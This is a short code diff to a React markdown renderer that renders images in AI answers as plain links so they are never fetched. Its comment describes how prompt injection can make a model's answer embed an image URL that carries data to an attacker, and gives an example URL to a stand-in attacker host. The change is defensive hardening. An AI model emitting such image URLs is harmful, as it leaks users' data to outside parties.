@@ -33,6 +33,19 @@ const components: Components = {
       </a>
     )
   },
+  // An image is shown as a link, never fetched: with prompt injection, an answer's image URL
+  // (`![x](https://attacker/?d=…)`) is an exfiltration channel the moment it loads. The CSP
+  // (img-src 'self' data:) would block it anyway; this keeps the answer readable.
+  img({ src, alt }) {
+    const href = typeof src === 'string' ? src : undefined
+    const label = `image: ${alt || href || 'untitled'}`
+    if (!href || !/^https?:\/\//i.test(href)) return <span data-testid="markdown-image">[{label}]</span>
+    return (
+      <a data-testid="markdown-image" href={href} target="_blank" rel="noopener noreferrer nofollow">
+        [{label}]
+      </a>
+    )
+  },
   table({ node: _node, children, ...props }) {
     return (
       <div className="table-wrap">
